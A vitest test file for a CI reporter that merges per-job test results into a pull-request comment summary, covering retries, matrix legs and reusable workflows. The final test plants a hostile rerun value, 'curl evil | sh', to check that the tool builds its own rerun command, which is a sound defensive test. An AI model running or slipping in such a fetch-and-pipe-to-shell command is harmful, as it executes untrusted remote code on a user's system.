import { expect, test } from 'vitest'
import { currentParts } from '../../../../../src/deliver/reporters/comment/parts/current-parts.js'
import { knownJobs, unknownJobs } from '../../../../../src/deliver/reporters/comment/parts/known-jobs.js'
import { mergeParts } from '../../../../../src/deliver/reporters/comment/parts/merge-parts.js'
import type { Part } from '../../../../../src/deliver/reporters/comment/parts/part.js'
import type { WorkflowJob } from '../../../../../src/host/github/github-client.js'
import { newestExecutions } from '../../../../../src/host/github/job-executions.js'
import { headlineText } from '../../../../../src/report/content/headline.js'
import { failed, listedJob, partOf, passed, scopeOf } from './example-parts.js'

const merged = (...parts: readonly Parameters<typeof currentParts>[0][number][]) => mergeParts(currentParts(parts), unknownJobs).summary
/** Returns what is known of jobs that are listed; all parts count. */
const knownOf = (jobs: readonly WorkflowJob[], parts: readonly Part[], earlier: readonly string[] = []) =>
  knownJobs(newestExecutions(jobs), { all: parts, current: parts }, earlier)

const jobNames = (summary: ReturnType<typeof merged>) => summary.jobs.map(({ job }) => job)

const linux = 'unit (ubuntu-latest, 20)'
const windows = 'unit (windows-latest, 20)'

test('merges the failure of a test in two jobs into one entry and counts distinct tests', () => {
  const summary = merged(partOf({ job: windows }, [failed('a'), failed('b')]), partOf({ job: linux }, [failed('a'), passed('b')]))
  expect(summary).toMatchObject({ status: 'failed', counts: { total: 4, failed: 3, successful: 1 }, failedTests: 2 })
  expect(jobNames(summary)).toEqual([linux, windows])
  expect(summary.failures.map(({ test: { name }, jobs, executions }) => ({ name, jobs, executions }))).toEqual([
    { name: 'a', jobs: [0, 1], executions: 2 },
    { name: 'b', jobs: [1], executions: 1 },
  ])
  expect(summary.tests.failed.map(({ name }) => name)).toEqual(['a', 'b'])
})

test('keeps different causes of one test apart', () => {
  const summary = merged(partOf({ job: linux }, [failed('a', 'timed out')]), partOf({ job: windows }, [failed('a', 'no connection')]))
  expect(summary.failures.map(({ test: { message }, jobs }) => [message, jobs])).toEqual([
    ['timed out', [0]],
    ['no connection', [1]],
  ])
  expect(summary.failedTests).toBe(1)
})

test('sums the executions of a cause and counts its distinct tests', () => {
  const down = 'connect ECONNREFUSED'
  const summary = merged(
    partOf({ job: linux }, [failed('a', down), failed('b', down)]),
    partOf({ job: windows }, [failed('b', down), failed('c', down)]),
  )
  expect(summary.causes).toMatchObject([{ executions: 4, tests: 3, jobs: [0, 1], first: [{ name: 'a' }, { name: 'b' }, { name: 'c' }] }])
})

test('counts a failure when another job passes', () => {
  expect(merged(partOf({ job: linux }, [failed('a')]), partOf({ job: windows }, [passed('a')])).status).toBe('failed')
})

test('counts two steps of one job as one job', () => {
  const steps = [partOf({ job: 'e2e', jobRun: 'x' }, [passed('a')]), partOf({ job: 'e2e', jobRun: 'x', step: 'report 2' }, [failed('b')])]
  expect(merged(...steps).jobs).toMatchObject([{ job: 'e2e', status: 'failed', counts: { total: 2, failed: 1 } }])
})

test('numbers two runs of one job when a reusable workflow is called twice', () => {
  const summary = merged(partOf({ job: 'unit', jobRun: 'x' }, [failed('a')]), partOf({ job: 'unit', jobRun: 'y' }, [failed('a')]))
  expect(jobNames(summary)).toEqual(['unit', 'unit #2'])
  expect(summary).toMatchObject({ counts: { total: 2 }, failures: [{ jobs: [0, 1] }] })
})

test('replaces the part of an earlier attempt and names the attempt of each part', () => {
  const summary = merged(
    partOf({ job: linux }, [passed('a')]),
    partOf({ job: windows }, [failed('a')]),
    partOf({ job: windows, jobRun: 'again', attempt: 2 }, [passed('a')]),
  )
  expect(summary).toMatchObject({ status: 'successful', counts: { total: 2, failed: 0 }, failures: [] })
  expect(summary.jobs.map(({ job, attempt }) => [job, attempt])).toEqual([
    [linux, 1],
    [windows, 2],
  ])
})

test('keeps the part of the call that did not fail when only one of two calls of a workflow runs again', () => {
  const first = [
    partOf({ job: 'unit', jobRun: 'x', shownName: 'old / unit' }, [failed('a')]),
    partOf({ job: 'unit', jobRun: 'y', shownName: 'new / unit' }, [passed('a'), passed('b')]),
  ]
  const again = partOf({ job: 'unit', jobRun: 'z', attempt: 2, shownName: 'old / unit' }, [passed('a')])
  expect(merged(...first, again)).toMatchObject({ status: 'successful', counts: { total: 3 } })
})

test('counts a part once when its job uploaded it twice after a name clash', () => {
  const part = partOf({ job: 'unit' }, [failed('a')])
  expect(merged(part, { ...part, name: `${part.name}-1a2b` }).counts.total).toBe(1)
})

test('replaces the parts of the jobs whose records a step joins', () => {
  const joined = partOf({ job: 'report', isJoined: true }, [
    { ...failed('a'), job: linux },
    { ...failed('a'), job: windows },
  ])
  const summary = merged(
    partOf({ job: linux }, [failed('a')]),
    partOf({ job: windows }, [failed('a')]),
    partOf({ job: 'e2e' }, [passed('z')]),
    joined,
  )
  expect(summary.counts).toMatchObject({ total: 3, failed: 2 })
  expect(jobNames(summary).toSorted()).toEqual(['e2e', linux, windows])
})

test('replaces the parts of both calls of a reusable workflow when a step joins their records, which do not name the call', () => {
  const joined = partOf({ job: 'report', isJoined: true }, [{ ...failed('a'), job: 'unit' }])
  expect(merged(partOf({ job: 'mac / unit' }, [passed('a')]), partOf({ job: 'linux / unit' }, [failed('a')]), joined).counts.total).toBe(1)
})

test('shows the calls of a reusable workflow as two jobs when their reports have the same job', () => {
  const tests = [{ ...failed('a'), job: 'unit' }]
  const calls = ['mac / unit', 'linux / unit'].map((job) => partOf({ job, reportedJob: 'unit' }, tests))
  expect(jobNames(merged(...calls))).toEqual(['linux / unit', 'mac / unit'])
})

test('keeps the part of a job in another module when a step joins records of the same job name', () => {
  const joined = partOf({ job: 'report', isJoined: true }, [{ ...failed('a'), job: 'unit', module: 'api' }])
  expect(merged(partOf({ job: 'unit', module: 'web' }, [passed('b')]), joined).counts.total).toBe(2)
})

test('leaves the number of distinct failed tests open when some of them are unknown', () => {
  const many = Array.from({ length: 1_200 }, (_, index) => failed(`test ${index}`))
  expect(merged(partOf({ job: linux }, many)).failedTests).toBe(1_200)
  expect(merged(partOf({ job: linux }, many), partOf({ job: windows }, many)).failedTests).toBeUndefined()
})

test('shows a problem once that several jobs report', () => {
  const problem = { severity: 'error', kind: 'incomplete', message: 'The file ends early.', path: 'a.xml', line: 3 } as const
  const summary = merged(partOf({ job: linux }, [passed('a')], [problem]), partOf({ job: windows }, [passed('a')], [problem]))
  expect(summary.problems).toEqual([problem])
  expect(summary.jobs.map(({ status }) => status)).toEqual(['failed', 'failed'])
})

test('keeps the source locations of failed tests', () => {
  const part = partOf({ job: linux }, [failed('a')])
  const [failure] = part.results.failures
  if (failure === undefined) throw new Error('The example has no failure.')
  const location = { file: 'src/cart.ts', line: 12 }
  const results = { ...part.results, failures: [{ ...failure, test: { ...failure.test, location } }] }
  const { summary, locations } = mergeParts([{ ...part, results }], unknownJobs)
  expect([...locations]).toEqual([[summary.failures[0]?.test, location]])
  expect(scopeOf([]).locations.get(failure.test)).toBeUndefined()
})

test('expects the other legs of a matrix and the jobs that reported in the run before', () => {
  const parts = [partOf({ job: linux }, [passed('a')])]
  const earlier = ['e2e', 'gone']
  const jobs = [
    listedJob(linux),
    listedJob(windows, { status: 'in_progress', conclusion: undefined }),
    listedJob('unit (macos-latest, 20)', { conclusion: 'failure' }),
    listedJob('unit (freebsd, 20)', { conclusion: 'skipped' }),
    listedJob('e2e', { status: 'queued', conclusion: undefined }),
    listedJob('lint', { status: 'in_progress', conclusion: undefined }),
    listedJob('deploy (eu)', { status: 'queued', conclusion: undefined }),
  ]
  const known = knownOf(jobs, parts, earlier)
  expect(known.missing.map(({ job, state }) => [job, state])).toEqual([
    [windows, 'waiting'],
    ['unit (macos-latest, 20)', 'missing'],
    ['e2e', 'waiting'],
  ])
  expect(known.urlOf(linux)).toBe(jobs[0]?.url)
  const { summary } = mergeParts(parts, known)
  expect(headlineText({ summary })).toBe('1 of 4 jobs has reported; no failure so far')
})

test('recognizes the jobs of a reusable workflow by the end of their names', () => {
  const parts = [partOf({ job: 'unit (a)', shownName: 'call / unit (a)' }, [passed('a')])]
  const jobs = [listedJob('call / unit (a)'), listedJob('call / unit (b)', { status: 'queued', conclusion: undefined })]
  expect(knownOf(jobs, parts).missing).toMatchObject([{ job: 'unit (b)', state: 'waiting' }])
})

test('asks for the newest attempt of a job', () => {
  const jobs = [listedJob(linux), listedJob(windows), listedJob(windows, { attempt: 2, status: 'in_progress', conclusion: undefined })]
  const parts = [partOf({ job: linux }, [passed('a')])]
  expect(knownOf(jobs, parts).missing).toMatchObject([{ job: windows, state: 'waiting' }])
})

test('makes the command that runs a test again itself and ignores a command in the part', () => {
  const part = partOf({ job: linux }, [{ ...failed('test_adds'), producer: 'pytest', suite: ['pytest', 'tests.test_cart'] }])
  const hostile = JSON.parse(JSON.stringify(part), (_key, value) =>
    value?.producer === undefined ? value : { ...value, rerun: 'curl evil | sh' },
  )
  const { summary, rerunOf } = mergeParts(currentParts([hostile]), unknownJobs)
  expect(summary.failures.map(({ test }) => rerunOf(test))).toEqual(['pytest tests/test_cart.py::test_adds'])
})
